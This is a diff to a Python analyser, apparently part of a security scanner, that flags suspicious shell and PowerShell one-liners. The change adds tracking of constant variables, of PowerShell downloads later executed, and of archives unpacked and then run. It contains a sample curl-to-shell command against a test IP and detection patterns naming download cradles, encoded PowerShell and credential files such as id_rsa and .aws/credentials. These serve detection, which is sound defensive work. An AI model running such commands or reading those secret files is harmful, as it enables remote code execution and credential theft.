@@ -3,7 +3,7 @@
     analyse("curl -s http://203.0.113.7/x | sh")  ->  Facts(acts=[Act(REMOTE_CODE, "http://203.0.113.7/x", 1)], ...)
 
 Reads POSIX shells, `cmd` one-liners and PowerShell one-liners (T1059.001, .003, .004). It is a reader for suspicion,
-not an interpreter: variables are followed only when the same text assigns them from a download.
+not an interpreter: variables are followed when the same text gives them a constant, or assigns them from a download.
 Bounds: those of `shell_words` for each of `PIECES` pieces, and `DEPTH` levels of commands inside commands
 (`bash -c "..."`, `$(...)`).
 """
@@ -11,6 +11,8 @@ Bounds: those of `shell_words` for each of `PIECES` pieces, and `DEPTH` levels o
 import posixpath
 import re
 from collections.abc import Iterator
+from dataclasses import replace
+from itertools import pairwise
 
 from lazaretto.parse import shell_programs as programs
 from lazaretto.parse.hosts import URL, HostKind, host_kind
@@ -68,11 +70,16 @@ _POWERSHELL_FETCH = re.compile(
     r"downloadstring|downloaddata|\biwr\b|\birm\b|invoke-webrequest|invoke-restmethod|net\.webclient|\bcurl\b|\bwget\b",
     re.IGNORECASE,
 )
+_POWERSHELL_GIVEN = re.compile(r"\s{0,40}(\$\w{1,40})\s{0,4}=")
+_POWERSHELL_NAME = re.compile(r"\$\w{1,40}")
 _POWERSHELL_WORDS = ("powershell", "pwsh", "iex", "invoke-expression", "scriptblock")
 _HIDDEN_WINDOW = re.compile(r"(?:-w|-win|-windowstyle)\s{1,4}(?:hidden|h\b|1\b)|-windowstyle:hidden", re.IGNORECASE)
 _ENCODED = re.compile(r"\s-(?:e|ec|en|enc|enco\w{0,10})\s{1,4}['\"]?[A-Za-z0-9+/=]{16,}", re.IGNORECASE)
 _BLANKS = re.compile(rf"[ \t\u00a0]{{{OFF_SCREEN_BLANKS},}}")
 _PIPED_IN_CODE = re.compile(r"\b(?:curl|wget)\b[^|\n]{1,400}\|\s{0,4}(?:sudo\s{1,4})?(?:ba|z|da)?sh\b")
+_ASSIGNMENT = re.compile(r"([A-Za-z_]\w{0,60})=([^$`\s][^$`]{0,400})")
+_VARIABLE = re.compile(r"\$(?:\{([A-Za-z_]\w{0,60})\}|([A-Za-z_]\w{0,60}))")
+_DECLARES = frozenset({"export", "local", "readonly", "declare", "typeset", "set"})
 _REQUIRED = re.compile(r"\b(?:require|import)\(\s{0,4}['\"](\.{1,2}/[^'\"]{1,200})['\"]")
 _SECRETS = re.compile(
     r"\.ssh/|id_rsa|id_ed25519|\.aws/credentials|\.npmrc|\$\(env\)|`env`|\$\(printenv\)|\.env\b|login\.keychain|/etc/passwd"
@@ -97,7 +104,9 @@ class _Analyst:
         self.names: set[str] = set()
         self.outputs: dict[str, str] = {}
         self.tainted: dict[str, str] = {}
+        self.constants: dict[str, str] = {}
         self.cloned: dict[str, str] = {}
+        self.unpacked: dict[str, str] = {}
         self.cut = False
 
     def run(self, text: str) -> Facts:
@@ -131,6 +140,7 @@ class _Analyst:
             while len(folders) <= command.depth:
                 folders.append(folders[-1])
             del folders[command.depth + 1 :]
+            command = self._filled_in(command)
             program = programs.program_of(command.words)
             if program.name in {"cd", "pushd", "chdir", "set-location"} and len(program.words) > 1:
                 target = program.words[-1].replace("\\", "/")
@@ -142,6 +152,29 @@ class _Analyst:
             if command.after != "|":
                 self._pipeline(pipeline, line)
                 pipeline = []
+
+    def _filled_in(self, command: Command) -> Command:
+        """Remember constants that are assigned, and put those that are known into a command's words."""
+        if self.constants:
+            command = replace(
+                command,
+                words=tuple(self._expanded(word) for word in command.words),
+                substitutions=tuple(self._expanded(text) for text in command.substitutions),
+                inputs=tuple(self._expanded(text) for text in command.inputs),
+                outputs=tuple(self._expanded(text) for text in command.outputs),
+            )
+        words = command.words[1:] if command.words[:1] and command.words[0] in _DECLARES else command.words
+        found = [_ASSIGNMENT.fullmatch(word) for word in words[:20]]
+        if all(found):  # otherwise the assignment is for one command only
+            for one in found:
+                if one is not None:
+                    self.constants[one[1]] = one[2]
+        return command
+
+    def _expanded(self, word: str) -> str:
+        if "$" not in word or len(word) > 8192:
+            return word
+        return _VARIABLE.sub(lambda found: self.constants.get(found[1] or found[2], found[0]), word)
 
     def _whole(self, text: str, line: int) -> None:
         """Look at what only the text as a whole shows."""
@@ -155,8 +188,15 @@ class _Analyst:
         low = text.lower()
         if not any(word in low for word in _POWERSHELL_WORDS):
             return
+        fetched: dict[str, str] = {}
         for number, row in enumerate(text.split("\n"), line):
             row = row[:4000]
+            if _POWERSHELL_FETCH.search(row) and (given := _POWERSHELL_GIVEN.match(row)) is not None:
+                fetched[given[1].lower()] = _url_in(row) or _url_in(text)
+            elif fetched and _POWERSHELL_LOADER.search(row):
+                for used in _POWERSHELL_NAME.findall(row):
+                    if used.lower() in fetched:
+                        self._add(Trait.REMOTE_CODE, fetched[used.lower()], number)
             if _ENCODED.search(row) and ("powershell" in low or "pwsh" in low):
                 self._add(Trait.ENCODED_POWERSHELL, "powershell", number)
             if _HIDDEN_WINDOW.search(row) and ("powershell" in low or "pwsh" in low):
@@ -248,6 +288,9 @@ class _Analyst:
                 self._add(Trait.HIDDEN_FILE_RUN, path, line)
             full = path if path.startswith(("/", "~", "$", "%")) else posixpath.normpath(posixpath.join(folder, path))
             self.runs.setdefault(full, Run(full, program.name, line))
+            for place, url in self.unpacked.items():
+                if path.startswith(place):
+                    self._add(Trait.DOWNLOAD_RUN, url, line)
             if full.split("/", 1)[0] in self.cloned:
                 self._add(Trait.DOWNLOAD_RUN, self.cloned[full.split("/", 1)[0]], line)
         if program.name in {"start", "start-process", "open", "xdg-open", "saps"} and len(program.words) > 1:
@@ -344,6 +387,10 @@ class _Analyst:
             found = programs.download_of(program)
             if found is not None and not found[1]:
                 url = found[0]
+            if at and url and program.name in {"tar", "bsdtar", "gtar"} and len(self.unpacked) < 20:
+                for option, folder in pairwise(program.words):
+                    if option in {"-C", "--directory"} and len(folder) > 1:
+                        self.unpacked[folder.rstrip("/") + "/"] = url
             if program.name in {"echo", "printf"}:
                 joined = " ".join(program.words[1:])
                 url = next((u for v, u in self.tainted.items() if f"${v}" in joined or f"${{{v}}}" in joined), url)
